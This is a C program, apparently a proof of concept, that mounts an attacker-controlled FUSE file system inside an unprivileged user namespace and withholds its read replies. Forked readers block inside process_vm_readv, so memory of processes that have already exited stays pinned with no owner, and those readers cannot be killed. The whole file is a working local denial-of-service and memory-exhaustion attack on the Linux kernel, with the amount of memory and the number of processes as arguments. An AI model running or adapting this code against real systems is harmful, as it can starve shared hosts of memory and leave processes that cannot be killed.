/*
 * Processes end while others read their memory, in a system call that a file system of the attacker blocks: the memory remains,
 * although no process has it. The readers cannot be killed while that file system is served. Arguments: MiB of each; how many.
 */
#include "common.h"
#include <linux/fuse.h>
#include <stddef.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/uio.h>

static void write_file(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY | O_CLOEXEC);

	must(fd != -1 && write(fd, text, strlen(text)) == (long)strlen(text), path);
	close(fd);
}

/* Mounts a file system whose root is a regular file, on "/tmp/file" of a namespace of its own. */
static int mount_fuse(void)
{
	int uid = getuid(), gid = getgid(), fd;
	char text[64];

	must(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "unshare");
	write_file("/proc/self/setgroups", "deny");
	snprintf(text, sizeof(text), "%d %d 1", uid, uid);
	write_file("/proc/self/uid_map", text);
	snprintf(text, sizeof(text), "%d %d 1", gid, gid);
	write_file("/proc/self/gid_map", text);
	must(mount("tmpfs", "/tmp", "tmpfs", 0, NULL) == 0, "tmpfs");
	close(open("/tmp/file", O_CREAT | O_WRONLY, 0600));
	fd = open("/dev/fuse", O_RDWR | O_CLOEXEC);
	snprintf(text, sizeof(text), "fd=%d,rootmode=100000,user_id=%d,group_id=%d", fd, uid, gid);
	must(fd != -1 && mount("fuse", "/tmp/file", "fuse", 0, text) == 0, "fuse");
	return fd;
}

static void reply(int fd, __u64 unique, const void *body, size_t length)
{
	char packet[512];
	struct fuse_out_header header = { .len = sizeof(header) + length, .unique = unique };

	memcpy(packet, &header, sizeof(header));
	memcpy(packet + sizeof(header), body, length);
	must(write(fd, packet, header.len) == header.len, "reply");
}

/* Answers all requests except reads. */
static void *serve(void *argument)
{
	static char request[256 * 1024];
	int fd = *(int *)argument;

	while (read(fd, request, sizeof(request)) > 0) {
		const struct fuse_in_header *header = (void *)request;
		struct fuse_init_out init = { .major = FUSE_KERNEL_VERSION, .minor = 31, .max_write = PAGE };
		struct fuse_attr_out attributes = { .attr = { .ino = 1, .size = MIB, .mode = 0100600, .nlink = 1, .uid = getuid() } };
		/* Otherwise a second open waits for the reads of the first. */
		struct fuse_open_out opened = { .open_flags = FOPEN_KEEP_CACHE };

		switch (header->opcode) {
		case FUSE_INIT:
			reply(fd, header->unique, &init, sizeof(init));
			break;
		case FUSE_GETATTR:
			reply(fd, header->unique, &attributes, sizeof(attributes));
			break;
		case FUSE_OPEN:
			reply(fd, header->unique, &opened, sizeof(opened));
			break;
		default:
			break;
		}
	}
	return NULL;
}

static void block_on(pid_t pid, char *memory)
{
	struct iovec local = { NULL, PAGE }, remote = { memory, PAGE };
	struct stat status;
	int file = open("/tmp/file", O_RDONLY | O_CLOEXEC);

	/* Makes the kernel request the size. */
	must(file != -1 && fstat(file, &status) == 0, "open");
	local.iov_base = mmap(NULL, PAGE, PROT_READ | PROT_WRITE, MAP_PRIVATE, file, 0);
	must(local.iov_base != MAP_FAILED, "mmap");
	process_vm_readv(pid, &local, 1, &remote, 1, 0);
	_exit(0);
}

int main(int count, char **arguments)
{
	double end = now() + atof(arguments[2]);
	pthread_t server;
	int fuse = mount_fuse();
	long bytes;

	must(count == 5, "arguments");
	bytes = atol(arguments[3]) * MIB;
	must(pthread_create(&server, NULL, serve, &fuse) == 0, "pthread_create");
	for (int left = atoi(arguments[4]); left > 0; left--) {
		int ready[2];
		char byte, *memory = map(bytes, MAP_PRIVATE);
		pid_t pid;

		must(pipe(ready) == 0, "pipe");
		pid = fork();
		must(pid != -1, "fork");
		if (pid == 0) {
			close(fuse);
			prctl(PR_SET_PTRACER, PR_SET_PTRACER_ANY);
			touch(memory, bytes);
			must(write(ready[1], "r", 1) == 1, "write");
			pause_ms(200);
			_exit(0);
		}
		close(ready[1]);
		if (read(ready[0], &byte, 1) == 1 && fork() == 0) {
			/* The connection ends with the server; otherwise the reader could not be killed. */
			close(fuse);
			block_on(pid, memory);
		}
		close(ready[0]);
		pause_ms(250);
		waitpid(pid, NULL, 0);
		munmap(memory, bytes);
	}
	while (now() < end)
		pause_ms(20);
	return 0;
}
